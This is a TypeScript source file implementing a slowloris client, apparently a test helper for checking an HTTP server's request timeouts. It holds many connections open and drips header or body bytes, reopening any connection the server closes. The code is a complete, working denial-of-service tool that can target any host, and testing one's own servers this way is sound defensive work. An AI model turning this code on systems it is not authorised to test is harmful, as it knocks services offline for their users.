import { connect, type Socket } from 'node:net';

/**
 * Slow clients against an HTTP server: `count` connections that each start a request and then
 * send one more header byte every `dripMs`, never finishing (slowloris). A connection the server
 * closes is opened again at once, so `count` stay held for as long as the attack runs, as an
 * attacker's would. `body: true` instead sends complete headers (with the given path, e.g. a
 * webhook route with its right secret) and then drips the body.
 */
export interface SlowlorisOptions {
  port: number;
  host?: string;
  count: number;
  dripMs?: number;
  path?: string;
  body?: boolean;
}

export class Slowloris {
  private readonly sockets = new Set<Socket>();
  private stopped = false;
  private timer?: NodeJS.Timeout;
  /** Connections the server closed (each replaced). */
  closedByServer = 0;
  /** Responses seen (Node answers 408 when it times a request out). */
  readonly statuses: number[] = [];
  opened = 0;

  constructor(private readonly opts: SlowlorisOptions) {}

  start(): this {
    for (let i = 0; i < this.opts.count; i++) this.open();
    this.timer = setInterval(() => {
      for (const s of this.sockets) if (s.writable) s.write(this.opts.body ? 'x' : 'a');
    }, this.opts.dripMs ?? 1000);
    return this;
  }

  get held(): number {
    return this.sockets.size;
  }

  private open(): void {
    if (this.stopped) return;
    this.opened++;
    const s = connect(this.opts.port, this.opts.host ?? '127.0.0.1');
    this.sockets.add(s);
    s.setNoDelay(true);
    s.on('error', () => undefined);
    s.on('connect', () => {
      const path = this.opts.path ?? '/healthz';
      if (this.opts.body) s.write(`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{`);
      else s.write(`POST ${path} HTTP/1.1\r\nHost: x\r\nX-Slow: `);
    });
    s.on('data', (d) => {
      const m = /^HTTP\/1\.1 (\d{3})/.exec(d.toString('latin1'));
      if (m) this.statuses.push(Number(m[1]));
    });
    s.on('close', () => {
      this.sockets.delete(s);
      if (this.stopped) return;
      this.closedByServer++;
      setTimeout(() => this.open(), 10);
    });
  }

  stop(): void {
    this.stopped = true;
    clearInterval(this.timer);
    for (const s of this.sockets) s.destroy();
  }
}
